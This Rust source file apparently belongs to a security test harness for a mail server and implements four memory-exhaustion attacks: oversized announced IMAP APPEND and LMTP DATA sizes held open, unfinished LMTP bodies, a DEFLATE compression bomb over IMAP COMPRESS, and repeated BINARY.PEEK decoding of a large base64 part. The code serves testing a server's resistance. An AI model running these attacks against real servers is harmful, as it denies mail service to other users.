//! Attacks that would make the server hold much memory: announced, unfinished, compressed, decoded.

use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::{Compress, Compression, FlushCompress};

use super::outcome::{Outcome, text};
use crate::stage::{ATTACKER, PASSWORD, Stage, last_words, push, until};

pub fn announced(stage: &Stage) -> Outcome {
    let (mut open, mut accepted) = (Vec::new(), 0);
    for n in 0..stage.of(40, 200) {
        if n % 2 == 0 {
            let mut client = stage.login(ATTACKER).map_err(text)?;
            client.send(b"a APPEND INBOX {60000000}\r\n").map_err(text)?;
            accepted += usize::from(client.line().map_err(text)?.starts_with('+'));
            open.push(client);
        } else {
            let mut client = stage.client("lmtp").map_err(text)?;
            client.ask("LHLO a.example").map_err(text)?;
            client.ask("MAIL FROM:<a@example.net> SIZE=60000000").map_err(text)?;
            client.ask(&format!("RCPT TO:<{ATTACKER}>")).map_err(text)?;
            accepted += usize::from(client.ask("DATA").map_err(text)?.starts_with("354"));
            open.push(client);
        }
    }
    // Nothing came yet, so nothing is taken from anybody.
    if accepted < open.len() {
        return Err(format!("{accepted} of {} accepted", open.len()));
    }
    stage.hold()?;
    Ok(format!("{accepted} of {} accepted, mail for others taken", open.len()))
}

pub fn unfinished(stage: &Stage) -> Outcome {
    let mut open = Vec::new();
    let piece = vec![b'x'; 64 << 10];
    for _ in 0..stage.of(20, 100) {
        let mut socket = stage.socket("lmtp").map_err(text)?;
        let lines =
            format!("LHLO a.example\r\nMAIL FROM:<a@example.net>\r\nRCPT TO:<{ATTACKER}>\r\nDATA\r\n");
        socket.write_all(lines.as_bytes()).map_err(text)?;
        let mut left = stage.of(512 << 10, 8 << 20) / piece.len();
        push(stage, &mut socket, || {
            left = left.checked_sub(1)?;
            Some(piece.clone())
        })?;
        open.push(socket);
    }
    stage.hold()?;
    Ok(format!("{} unfinished, mail for others taken", open.len()))
}

pub fn deflate_bomb(stage: &Stage) -> Outcome {
    let mut client = stage.socket("imap").map_err(text)?;
    client
        .write_all(format!("l LOGIN {ATTACKER} \"{PASSWORD}\"\r\nz COMPRESS DEFLATE\r\n").as_bytes())
        .map_err(text)?;
    // Read before the bomb is sent. A server that hangs up with input unread resets the connection,
    // and answers that nobody has read by then are lost.
    until(&mut client, "z OK").map_err(text)?;
    let mut compress = Compress::new(Compression::best(), false);
    let (zeros, mut left) = (vec![0; 1 << 20], stage.of(32, 1024));
    let sent = push(stage, &mut client, || {
        left = left.checked_sub(1)?;
        let mut piece = Vec::with_capacity(64 << 10);
        compress.compress_vec(&zeros, &mut piece, FlushCompress::Sync).ok()?;
        Some(piece)
    })?;
    stage.hold()?;
    last_words(&mut client).map_err(text)?;
    Ok(format!("{} KiB taken and thrown away", sent >> 10))
}

pub fn binary(stage: &Stage) -> Outcome {
    let size = stage.of(1 << 20, 24 << 20);
    let part = STANDARD.encode(vec![7; size]);
    let lines: Vec<&str> =
        part.as_bytes().chunks(76).filter_map(|line| std::str::from_utf8(line).ok()).collect();
    let message = format!(
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        lines.join("\r\n")
    );
    let mut client = stage.login(ATTACKER).map_err(text)?;
    client.imap("CREATE Binary").map_err(text)?;
    client.imap(&format!("APPEND Binary {{{}}}\r\n{message}", message.len())).map_err(text)?;
    client.imap("SELECT Binary").map_err(text)?;
    let items: Vec<String> = (0..1024).map(|n| format!("BINARY.PEEK[1]<{n}.1>")).collect();
    let mut sessions = vec![client];
    for _ in 1..stage.of(2, 4) {
        let mut client = stage.login(ATTACKER).map_err(text)?;
        client.imap("SELECT Binary").map_err(text)?;
        sessions.push(client);
    }
    for client in &mut sessions {
        client.send(format!("b FETCH 1 ({})\r\n", items.join(" ")).as_bytes()).map_err(text)?;
    }
    stage.hold()?;
    let mut answers = Vec::new();
    for client in &mut sessions {
        let line = loop {
            let line = client.line().map_err(text)?;
            if line.starts_with("b ") {
                break line;
            }
        };
        answers.push(line.split(' ').nth(1).unwrap_or_default().to_owned());
    }
    Ok(answers.join(" "))
}
